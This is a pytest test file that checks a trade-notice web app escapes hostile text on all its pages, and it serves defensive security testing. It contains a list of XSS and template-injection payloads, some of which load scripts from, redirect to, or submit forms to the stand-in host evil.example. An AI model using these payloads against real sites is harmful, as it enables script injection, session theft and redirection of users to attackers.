"""Crawled text is hostile: on every page it is only ever text."""

import datetime
from html.parser import HTMLParser

import pytest

from tradewarn.model import Case, Document, EarlyWarning, Extraction, Notice, Page, SourceState, Verdict

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "<svg/onload=alert(1)>",
    "{{7*7}}{% raw %}",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "\u202egnp.exe\u2066<b>\x00\x08",
    "<ScRiPt/src=//evil.example/x.js>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</textarea></select><form action=//evil.example><button>",
    '<div hx-get="//evil.example" hx-trigger="load">',
    "${alert(1)}<%= 7*7 %>`",
)
KINDLY = ("/", "#", "?", "https://example.org/", "https://www.federalregister.gov/")
METAS = 5  # of the base template
ADDRESSES = (
    "/notices/{n}",
    "/cases/c-bad",
    "/warnings",
    "/warnings/w-bad",
    "/sources",
    "/search?q=x",
    "/check?q=x",
    "/",
)


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, text):
        super().__init__()
        self.scripts, self.handlers, self.links, self.tags, self.words = [], [], [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        if tag == "script":
            self.scripts.append(dict(attributes).get("src"))
        for name, value in attributes:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action", "hx-get"):
                self.links.append(value)

    def handle_data(self, data):
        self.words.append(data)


def poison(value, payload, keep=()):
    """Put the payload into every free text of a record's JSON."""
    if isinstance(value, dict):
        return {k: v if k in keep else poison(v, payload, keep) for k, v in value.items()}
    if isinstance(value, list):
        return [poison(v, payload, keep) for v in value]
    return f"{value} {payload}" if isinstance(value, str) else value


FIXED = [
    "id",
    "importing_country",
    "instruments",
    "instrument",
    "stage",
    "status",
    "scope",
    "role",
    "kind",
    "publication_date",
    "date",
    "start",
    "end",
    "since",
    "as_of",
    "from",
    "to",
    "newest",
    "outcome",
    "from_",
    "created",
    "verdict",
    "language",
    "level",
    "precision",
    "result",
    "document",
    "market",
    "notice",
    "event",
    "profile",
    "record",
    "lang",
]


@pytest.fixture(params=PAYLOADS)
def poisoned(request, services, make):
    """Services whose every record is hostile in every free text."""
    bad = request.param
    store = services.store
    page = Page(number=1, text=f"{bad} evidence {bad}")
    notice, _ = make.notice(document="e" * 64, id="n-bad", pages=(1, 1))
    data = poison(notice.model_dump(mode="json", exclude={"evidence", "scope", "rates"}), bad, FIXED)
    data["scope"] = {"include": [bad], "exclude": [bad]}
    data["rates"] = poison(notice.model_dump(mode="json")["rates"], bad, FIXED)
    data["language"] = None
    data["evidence"] = {
        "title": [
            {"value": bad, "quote": bad, "page": 1, "start": 0, "end": len(bad), "confidence": 0.3, "by": bad}
        ]
    }
    document = Document(
        sha256="e" * 64, source=bad, name=bad, media_type=bad, size=3, url="javascript:alert(1)//" + bad
    )
    store.documents.add([document])
    extraction = Extraction(
        path=bad,
        sha256="e" * 64,
        media_type="text/html",
        language=None,
        pages=(page,),
        relevant=True,
        notices=(Notice.model_validate(data),),
        issues=(),
    )
    store.documents.read([extraction], version="1")
    store.notices.replace([extraction])
    case = poison(make.case().model_dump(mode="json"), bad, [*FIXED, "companions"])
    for event in case["events"]:
        event["source"]["url"] = "javascript:alert(1)"
    store.cases.replace("US", [Case.model_validate(case | {"id": "c-bad", "notes": [bad]})])
    warning = poison(make.warning().model_dump(mode="json"), bad, FIXED)
    warning = EarlyWarning.model_validate(warning | {"id": "w-bad", "status": "published"})
    store.warnings.raise_new([(warning, "act")], at="2026-03-01T00:00:00Z")
    services.verdict = Verdict.model_validate(poison(make.verdict().model_dump(mode="json"), bad, FIXED))
    state = services.sources()[0].model_dump(mode="json") | {"name": bad, "alarm": bad, "lane": bad}
    services.sources = lambda: [SourceState.model_validate(state)]
    services.bad = bad
    return services


@pytest.mark.parametrize("prefix", ["", "/en"])
def test_hostile_text_stays_text_on_every_page(client, poisoned, prefix):
    for address in ADDRESSES:
        answer = client.get(prefix + address.format(n="n-bad"))
        assert answer.status_code == 200, (address, answer.text[-600:])
        seen = Seen(answer.text)
        assert len(seen.scripts) == 2 and all(s.startswith("/static/") for s in seen.scripts), address
        assert not seen.handlers
        assert "img" not in seen.tags
        assert all((link or "").startswith(KINDLY) for link in seen.links), address
        assert not {"iframe", "base", "math", "textarea"} & set(seen.tags), address
        assert seen.tags.count("meta") == METAS, address
        assert "49" not in [w.strip() for w in seen.words if "{{7*7}}" in poisoned.bad], (
            "rendered as a template"
        )
        for hidden in "\u202e\u2066\x00\x08":
            assert hidden not in answer.text


def test_the_hostile_text_really_was_on_the_pages(client, poisoned):
    wanted = "".join(c for c in poisoned.bad if c not in "\u202e\u2066\x00\x08")
    for address in ADDRESSES:
        words = "".join(Seen(client.get(address.format(n="n-bad")).text).words)
        if not address.startswith("/search"):
            assert wanted in words, address


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_visitor_types_stays_text(client, payload):
    for path in ("/search", "/check", "/en/search", "/en/check"):
        answer = client.get(path, params={"q": payload})
        seen = Seen(answer.text)
        assert len(seen.scripts) == 2
        assert not seen.handlers
        assert all((link or "").startswith(KINDLY) for link in seen.links)


def test_an_address_that_is_not_there_is_not_repeated_as_markup(client):
    seen = Seen(client.get("/<script>alert(1)</script>").text)
    assert len(seen.scripts) == 2


def test_templates_never_switch_escaping_off(root):
    for path in (root / "api" / "web").rglob("*"):
        if path.suffix in {".html", ".atom"}:
            text = path.read_text(encoding="utf-8")
            assert "|safe" not in text.replace("|safe_url", "") and "autoescape" not in text, path
        if path.suffix == ".py":
            assert "Markup(" not in path.read_text(encoding="utf-8"), path


def test_there_are_enough_ways_of_attack():
    assert len(set(PAYLOADS)) >= 20


def test_the_first_and_last_of_all_days_do_not_break_a_page(client, services, make):
    case = make.case().model_dump(mode="json")
    case["events"][0]["date"] = str(datetime.date.min)
    case["events"][1]["date"] = str(datetime.date.max)
    services.store.cases.replace("US", [Case.model_validate(case)])
    assert client.get("/cases/c-bamboo").status_code == 200
